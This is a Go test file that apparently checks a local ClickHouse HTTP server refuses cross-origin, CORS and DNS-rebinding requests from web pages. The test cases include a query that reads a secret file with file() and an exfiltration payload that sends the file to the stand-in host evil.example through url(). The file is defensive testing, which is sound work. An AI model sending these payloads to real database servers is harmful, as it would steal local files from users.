package chlocal

import (
	"net"
	"net/http"
	"strings"
	"testing"
)

// expectNoCORS fails if a response carries any CORS header.
func expectNoCORS(t *testing.T, resp *http.Response) {
	t.Helper()
	for name := range resp.Header {
		if strings.HasPrefix(name, "Access-Control-") {
			t.Errorf("CORS header %s: %q", name, resp.Header.Get(name))
		}
	}
}

// Whatever a web page makes the browser send is refused before the engine
// sees it, and no answer carries a CORS header.
func TestRequestsFromWebPagesAreRefused(t *testing.T) {
	srv, _ := ForTest(t)
	secret := writeSecret(t)
	steal := "SELECT * FROM file('" + secret + "', 'LineAsString')"
	for _, tc := range []struct {
		name, method, target, body string
		header                     []string
	}{
		{name: "cross-origin POST as text/plain", method: http.MethodPost, target: "/", body: steal,
			header: []string{"Origin", "https://evil.example", "Content-Type", "text/plain"}},
		{name: "cross-origin exfiltration through url()", method: http.MethodPost, target: "/",
			body:   "INSERT INTO FUNCTION url('https://evil.example/x', 'LineAsString') " + steal,
			header: []string{"Origin", "https://evil.example", "Content-Type", "text/plain"}},
		{name: "sandboxed page", method: http.MethodPost, target: "/", body: "SELECT 1", header: []string{"Origin", "null"}},
		{name: "CORS preflight", method: http.MethodOptions, target: "/",
			header: []string{"Origin", "https://evil.example", "Access-Control-Request-Method", "POST"}},
		{name: "add_http_cors_header from a page", method: http.MethodGet, target: "/?add_http_cors_header=1&query=SELECT+1",
			header: []string{"Origin", "https://evil.example"}},
		{name: "image or link on another site", method: http.MethodGet, target: "/?query=SELECT+1",
			header: []string{"Sec-Fetch-Site", "cross-site", "Sec-Fetch-Mode", "no-cors"}},
		{name: "same-site page", method: http.MethodGet, target: "/?query=SELECT+1", header: []string{"Sec-Fetch-Site", "same-site"}},
		{name: "ping from a page", method: http.MethodGet, target: "/ping", header: []string{"Origin", "https://evil.example"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, err := http.NewRequestWithContext(t.Context(), tc.method, srv.URL()+tc.target, strings.NewReader(tc.body))
			if err != nil {
				t.Fatal(err)
			}
			for i := 0; i+1 < len(tc.header); i += 2 {
				req.Header.Set(tc.header[i], tc.header[i+1])
			}
			resp := do(t, req)
			expectNoCORS(t, resp)
			expectException(t, resp, http.StatusForbidden, "497")
		})
	}

	// Without a page behind them: add_http_cors_header is still refused,
	// OPTIONS has no CORS headers, and a URL typed in the address bar runs.
	resp := get(t, srv, "/", q("query", "SELECT 1", "add_http_cors_header", "1"))
	expectNoCORS(t, resp)
	expectException(t, resp, http.StatusForbidden, "497")
	resp = post(t, srv, nil, "SELECT 1 SETTINGS add_http_cors_header = 1")
	expectNoCORS(t, resp)
	expectException(t, resp, http.StatusForbidden, "497")
	req, _ := http.NewRequestWithContext(t.Context(), http.MethodOptions, srv.URL()+"/", nil)
	resp = do(t, req)
	expectNoCORS(t, resp)
	if resp.StatusCode != http.StatusNoContent {
		t.Errorf("OPTIONS: %d", resp.StatusCode)
	}
	req, _ = http.NewRequestWithContext(t.Context(), http.MethodGet, srv.URL()+"/?query=SELECT+1", nil)
	req.Header.Set("Sec-Fetch-Site", "none")
	expectOK(t, do(t, req), "1\n")
}

// A request must name the server in Host: a page whose own host name
// resolves to 127.0.0.1 (DNS rebinding) sends that name. A proxy on loopback
// sends its own port.
func TestHostMustNameTheServer(t *testing.T) {
	srv, _ := ForTest(t)
	_, port, _ := net.SplitHostPort(srv.Addr())
	for host, ok := range map[string]bool{
		"127.0.0.1:" + port:        true,
		"localhost:" + port:        true,
		"LocalHost:" + port:        true,
		"[::1]:" + port:            true,
		"evil.example:" + port:     false,
		"127.0.0.1.nip.io:" + port: false,
		"localhost.:" + port:       false,
		"0.0.0.0:" + port:          false,
		"127.0.0.1":                true,
		"127.0.0.1:1":              true,
		"evil.example":             false,
	} {
		for _, path := range []string{"/", "/ping"} {
			req, _ := http.NewRequestWithContext(t.Context(), http.MethodPost, srv.URL()+path, strings.NewReader("SELECT 1"))
			req.Host = host
			resp := do(t, req)
			switch {
			case ok && path == "/":
				expectOK(t, resp, "1\n")
			case ok:
				expectOK(t, resp, "Ok.\n")
			default:
				expectException(t, resp, http.StatusForbidden, "497")
			}
		}
	}
}

func TestHostCheck(t *testing.T) {
	for _, tc := range []struct {
		addr             string
		allowNonLoopback bool
		hosts            map[string]bool
	}{
		{addr: "127.0.0.1:8123", hosts: map[string]bool{
			"127.0.0.1:8123": true, "127.0.0.2:8123": true, "[::1]:8123": true, "localhost:8123": true,
			"[::ffff:127.0.0.1]:8123": true, "127.0.0.1:9000": true, "localhost": true, "[::1]": true,
			"10.0.0.1:8123": false, "evil.example:8123": false, "localhost.evil.example:8123": false,
			"": false, ":8123": false, "[]": false, "0.0.0.0:8123": false,
		}},
		{addr: "10.0.0.5:8123", allowNonLoopback: true, hosts: map[string]bool{
			"10.0.0.5:8123": true, "127.0.0.1:8123": true, "10.0.0.6:8123": false, "evil.example:8123": false,
		}},
		{addr: "devbox.lan:8123", allowNonLoopback: true, hosts: map[string]bool{
			"devbox.lan:8123": true, "DEVBOX.lan:8123": true, "10.0.0.5:8123": false, "evil.example:8123": false,
		}},
		{addr: "0.0.0.0:8123", allowNonLoopback: true, hosts: map[string]bool{
			"10.0.0.6:8123": true, "[fe80::1]:8123": true, "evil.example:8123": false,
		}},
		{addr: "[::]:8123", allowNonLoopback: true, hosts: map[string]bool{"10.0.0.6:8123": true, "evil.example": false}},
		{addr: "10.0.0.5:8123", hosts: map[string]bool{"10.0.0.5:8123": false}},
	} {
		h := newHostCheck(tc.addr, tc.allowNonLoopback)
		for host, want := range tc.hosts {
			if got := h.allowed(host); got != want {
				t.Errorf("listening on %s: allowed(%q) = %v, want %v", tc.addr, host, got, want)
			}
		}
	}
}
